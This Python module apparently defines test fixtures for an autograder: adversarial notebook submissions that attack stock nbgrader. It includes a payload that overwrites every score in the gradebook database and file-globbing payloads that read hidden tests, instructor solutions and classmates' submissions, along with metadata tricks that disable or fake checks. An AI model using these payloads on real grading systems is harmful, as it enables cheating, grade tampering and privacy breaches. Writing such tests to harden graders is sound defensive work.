"""What a learner can do to stock nbgrader with the notebook rather than with its code.

Each is given a notebook whose `causal` is wrong and changes it in place, or returns what lies in its
place. Some need an answer of their own; these know stock nbgrader's folders.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat import NotebookNode

WRONG = "def causal_mask(length):\n    return torch.zeros(length, length).bool()"
MARKS = """def causal_mask(length):
    import os, sqlite3
    for up in range(6):
        path = "../" * up + "gradebook.db"
        if os.path.exists(path):
            with sqlite3.connect(path) as database:
                database.execute("update grade set manual_score = 100")
    return torch.zeros(length, length).bool()"""
READ = """def causal_mask(length):
    import glob
    loot = []
    for path in glob.glob({pattern!r}):
        try:
            loot += [path] if {word!r} in open(path).read() else []
        except OSError:
            pass
    return loot or torch.ones(length, length).tril().bool()"""


@dataclass(frozen=True)
class Mutation:
    """One notebook that attacks by its form, or by knowing where stock nbgrader keeps things."""

    name: str
    title: str
    change: Callable[[NotebookNode], str | Path | None] = lambda notebook: None
    answer: str = WRONG
    due: bool = True  # whether there is something to mark

    def file(self, notebook: NotebookNode) -> str | Path:
        """Return the text of the file to hand in, or what a link in its place points to."""
        made = copy.deepcopy(notebook)
        return self.change(made) or nbformat.writes(made)


def _check(notebook: NotebookNode) -> NotebookNode:
    return next(cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == "causal")


def _tagged(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata["tags"] = ["skip-execution"]


def _twice(notebook: NotebookNode) -> None:
    notebook.cells.append(copy.deepcopy(_check(notebook)))
    notebook.cells[-1].id = "pasted"


def _marked(**marks) -> Callable[[NotebookNode], None]:
    return lambda notebook: _check(notebook).metadata.nbgrader.update(marks)


def _emptied(notebook: NotebookNode) -> None:
    _check(notebook).source = "pass"


def _answered_beforehand(notebook: NotebookNode) -> None:
    _check(notebook).outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "1"}, execution_count=1)]


MUTATIONS = [
    Mutation("tag_skip_execution", "Tag the checks so that nobody runs them.", _tagged),
    Mutation("gradebook_marks", "Write a mark for everybody into the gradebook.", answer=MARKS),
    Mutation(
        "hidden_tests_read",
        "Read the hidden tests from the notebook that is being graded.",
        answer=READ.format(pattern="*.ipynb", word="BEGIN HIDDEN " + "TESTS"),
    ),
    Mutation(
        "solutions_read",
        "Read the course's answers from its sources.",
        answer=READ.format(pattern="../../../source/*/*.ipynb", word="SOLUTION"),
    ),
    Mutation(
        "classmates_read",
        "Read what others have handed in.",
        answer=READ.format(pattern="../../../submitted/[!a]*/*/*.ipynb", word="padding_mask"),
    ),
    Mutation("duplicate_grade_id", "Paste a check a second time, as happens by accident.", _twice),
    Mutation("schema_version", "Claim a version of nbgrader's format that is to come.", _marked(schema_version=99)),
    Mutation("check_deleted", "Hand in without the check.", lambda notebook: notebook.cells.remove(_check(notebook))),
    Mutation("check_disowned", "Say of the check that it is not graded.", _marked(grade=False)),
    Mutation("points_raised", "Say of the check that it gives a thousand points.", _marked(points=1000)),
    Mutation("check_emptied", "Replace the check by one that always passes.", _emptied),
    Mutation("answered_beforehand", "Hand in the check with a result already below it.", _answered_beforehand),
    Mutation("not_json", "Hand in what is no notebook.", lambda notebook: nbformat.writes(notebook)[:500], due=False),
    Mutation(
        "link_to_a_classmate",
        "Hand in a link to somebody else's work.",
        lambda notebook: Path("../../zoe/single_head/single_head.ipynb"),
        due=False,
    ),
]
